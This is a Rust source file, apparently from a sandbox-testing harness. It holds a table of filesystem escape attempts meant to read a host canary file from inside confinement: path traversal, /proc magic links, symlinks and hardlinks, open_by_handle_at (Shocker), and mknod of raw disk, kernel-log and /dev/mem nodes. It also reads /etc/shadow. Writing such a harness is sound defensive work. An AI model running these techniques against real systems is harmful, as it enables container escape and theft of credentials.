//! Reading a file of the host that no rule names. `CANARY` is its absolute path.

use crate::attack::{Attack, Attempt, Stop, attack, no_effect};
use crate::kit::{open, open_at, read, read_all, scratch, steal, steal_fd};
use crate::params::{Params, any};
use crate::sys;
use crate::sys::{at_mut, c};

const CLASS: &str = "filesystem";
const HIDDEN: &[&str] = &["mount-ns", "landlock", "seccomp"];

/// The table.
pub const ATTACKS: &[Attack] = &[
    attack("fs-read-absolute", CLASS, "open a host file by its absolute path", |p| steal(p.get("CANARY")?))
        .needs(&["CANARY"])
        .native(HIDDEN),
    attack("fs-read-openat2", CLASS, "the same by openat2, whose flags no filter can see", openat2)
        .needs(&["CANARY"])
        .native(HIDDEN),
    attack("fs-read-shadow", CLASS, "read the host's /etc/shadow", shadow).native(HIDDEN),
    attack("fs-dotdot", CLASS, "climb out of the working directory with ..", |p| {
        steal(&format!("../../../../../../../../../..{}", p.get("CANARY")?))
    })
    .needs(&["CANARY"])
    .native(HIDDEN),
    attack("fs-proc-root", CLASS, "go through /proc/PID/root of another process", |p| {
        any(&p.pids()?, |pid| steal(&format!("/proc/{pid}/root{}", p.get("CANARY")?)))
    })
    .needs(&["CANARY", "TARGET"])
    .native(HIDDEN),
    attack("fs-proc-self-root", CLASS, "climb above /proc/self/root", |p| {
        steal(&format!("/proc/self/root/../../..{}", p.get("CANARY")?))
    })
    .needs(&["CANARY"])
    .native(HIDDEN),
    attack("fs-proc-cwd", CLASS, "climb above the magic link /proc/PID/cwd of another process", |p| {
        any(&p.pids()?, |pid| steal(&format!("/proc/{pid}/cwd/../../../../../../..{}", p.get("CANARY")?)))
    })
    .needs(&["CANARY", "TARGET"])
    .native(HIDDEN),
    attack("fs-proc-fd-dotdot", CLASS, "climb above the magic link of an own directory descriptor", magic_fd)
        .needs(&["CANARY"])
        .native(HIDDEN),
    attack("fs-symlink", CLASS, "make a symbolic link to a host file and open it", symlink)
        .needs(&["CANARY"])
        .native(HIDDEN),
    attack("fs-hardlink", CLASS, "make a hard link to a host file and open it", hardlink)
        .needs(&["CANARY"])
        .native(HIDDEN),
    attack("fs-open-by-handle", CLASS, "open a host file by its file handle (Shocker)", by_handle)
        .needs(&["HANDLE"])
        .native(&["capabilities", "seccomp"]),
    attack("fs-mknod-disk", CLASS, "make a node of the host's disk and read it raw", disk)
        .needs(&["DISK"])
        .excuse(&[libc::ENXIO, libc::EPERM], "the file system under test is on no block device, or mknod is confined")
        .native(&["capabilities", "seccomp"]),
    attack("fs-mknod-kmsg", CLASS, "make a node of the kernel log and read it", kmsg)
        .excuse(&[libc::EPERM], "mknod of devices is confined here")
        .native(&["capabilities", "seccomp"]),
    attack("fs-mknod-mem", CLASS, "make a node of physical memory and read it", mem)
        .excuse(&[libc::ENXIO, libc::EPERM], "kernel lockdown, or a kernel without /dev/mem")
        .native(&["capabilities", "seccomp"]),
    attack("fs-list-root", CLASS, "find the host's directories in the root", list_root)
        .needs(&["CANARY"])
        .native(HIDDEN),
];

#[repr(C)]
#[derive(Default)]
struct OpenHow {
    flags: u64,
    mode: u64,
    resolve: u64,
}

fn openat2(p: &Params) -> Attempt {
    let mut how = OpenHow::default();
    steal_fd(sys!(SYS_openat2, libc::AT_FDCWD, c(p.get("CANARY")?).as_ptr(), at_mut(&mut how), size_of::<OpenHow>())?)
}

fn shadow(_: &Params) -> Attempt {
    let text = read_all("/etc/shadow")?;
    let entries = text.lines().filter(|l| l.split(':').count() == 9).count();
    if entries > 0 { Ok(format!("{entries} entries")) } else { Err(no_effect("no entry in it")) }
}

fn magic_fd(p: &Params) -> Attempt {
    let fd = open(".", libc::O_RDONLY | libc::O_DIRECTORY)?;
    steal(&format!("/proc/self/fd/{fd}/../../../../../../..{}", p.get("CANARY")?))
}

fn symlink(p: &Params) -> Attempt {
    let name = scratch("link");
    sys!(SYS_symlink, c(p.get("CANARY")?).as_ptr(), c(&name).as_ptr())?;
    let got = steal(&name);
    sys!(SYS_unlink, c(&name).as_ptr())?;
    got
}

fn hardlink(p: &Params) -> Attempt {
    let name = scratch("hard");
    sys!(SYS_linkat, libc::AT_FDCWD, c(p.get("CANARY")?).as_ptr(), libc::AT_FDCWD, c(&name).as_ptr(), 0)?;
    let got = steal(&name);
    sys!(SYS_unlink, c(&name).as_ptr())?;
    got
}

/// `struct file_handle` with room for the largest handle (MAX_HANDLE_SZ is 128).
#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    data: [u8; 128],
}

/// The handle of a file as `kind:hex`, for the driver to pass on (the attacker guesses it: on
/// ext4 it is an inode number and a generation).
pub fn handle_of(path: &str) -> Attempt {
    let mut handle = Handle { bytes: 128, kind: 0, data: [0; 128] };
    let mut mount = 0i32;
    sys!(SYS_name_to_handle_at, libc::AT_FDCWD, c(path).as_ptr(), at_mut(&mut handle), at_mut(&mut mount), 0)?;
    let used = handle.data.get(..handle.bytes as usize).unwrap_or_default();
    Ok(format!("{}:{}", handle.kind, used.iter().map(|b| format!("{b:02x}")).collect::<String>()))
}

fn by_handle(p: &Params) -> Attempt {
    let text = p.get("HANDLE")?;
    let (kind, hex) = text.split_once(':').unwrap_or(("1", ""));
    let mut handle = Handle { bytes: 0, kind: kind.parse().unwrap_or(1), data: [0; 128] };
    for (slot, at) in handle.data.iter_mut().zip((0..hex.len()).step_by(2)) {
        *slot = hex.get(at..at + 2).and_then(|h| u8::from_str_radix(h, 16).ok()).unwrap_or(0);
        handle.bytes += 1;
    }
    let mount = open(".", libc::O_RDONLY | libc::O_DIRECTORY).unwrap_or(0);
    steal_fd(sys!(SYS_open_by_handle_at, mount, at_mut(&mut handle), libc::O_RDONLY)?)
}

fn node(kind: u32, device: u64, bytes: usize) -> Result<Vec<u8>, Stop> {
    let name = scratch("node");
    sys!(SYS_mknodat, libc::AT_FDCWD, c(&name).as_ptr(), kind | 0o600, device)?;
    let fd = open(&name, libc::O_RDONLY | libc::O_NONBLOCK);
    sys!(SYS_unlink, c(&name).as_ptr())?;
    let fd = fd?;
    let got = read(fd)?;
    if got.len() < bytes { Err(no_effect(format!("only {} bytes", got.len()))) } else { Ok(got) }
}

fn disk(p: &Params) -> Attempt {
    let device = u64::try_from(p.number("DISK")?).unwrap_or(0);
    let got = node(libc::S_IFBLK, device, 4096)?;
    let set = got.iter().filter(|b| **b != 0).count();
    if set > 0 { Ok(format!("{set} bytes of the disk's first block are not zero")) } else { Err(no_effect("all zero")) }
}

fn kmsg(_: &Params) -> Attempt {
    let got = node(libc::S_IFCHR, libc::makedev(1, 11), 8)?;
    if got.contains(&b';') {
        Ok(format!("a record of {} bytes", got.len()))
    } else {
        Err(no_effect("not a kernel log"))
    }
}

fn mem(_: &Params) -> Attempt {
    node(libc::S_IFCHR, libc::makedev(1, 1), 16).map(|got| format!("{} bytes of physical memory", got.len()))
}

fn list_root(p: &Params) -> Attempt {
    let top = p.get("CANARY")?.split('/').nth(1).unwrap_or_default();
    let sibling = p.or("HOST_TOP", top);
    let fd = open("/", libc::O_RDONLY | libc::O_DIRECTORY)?;
    let names = entries(fd)?;
    open_at(fd as i64, sibling, libc::O_PATH)?;
    if names.iter().any(|n| n == sibling) { Ok(names.join(" ")) } else { Err(no_effect(names.join(" "))) }
}

/// Names in an open directory, by getdents64(2).
pub fn entries(fd: usize) -> Result<Vec<String>, Stop> {
    let mut names = Vec::new();
    let mut buffer = vec![0u8; 32 * 1024];
    loop {
        let n = sys!(SYS_getdents64, fd, buffer.as_mut_ptr(), buffer.len())?;
        if n == 0 {
            return Ok(names);
        }
        let mut rest = buffer.get(..n).unwrap_or_default();
        // struct linux_dirent64: inode, offset, then length (2), type (1), name.
        while let Some(&[low, high]) = rest.get(16..).and_then(|r| r.first_chunk::<2>()) {
            let length = usize::from(u16::from_le_bytes([low, high]));
            let name = rest.get(19..length).unwrap_or_default();
            let name: Vec<u8> = name.iter().copied().take_while(|b| *b != 0).collect();
            names.push(String::from_utf8_lossy(&name).into_owned());
            rest = rest.get(length.max(19)..).unwrap_or_default();
        }
    }
}
